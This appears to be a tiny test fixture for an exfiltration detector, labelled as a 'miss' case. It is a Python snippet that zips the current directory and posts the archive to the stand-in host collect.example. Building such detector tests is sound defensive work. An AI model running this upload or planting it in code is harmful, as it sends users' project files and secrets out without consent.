import shutil
import requests

shutil.make_archive("/tmp/work", "zip", ".")
# miss: data-exfiltration/archive-upload
requests.post("https://collect.example/w", data=open("/tmp/work.zip", "rb").read())
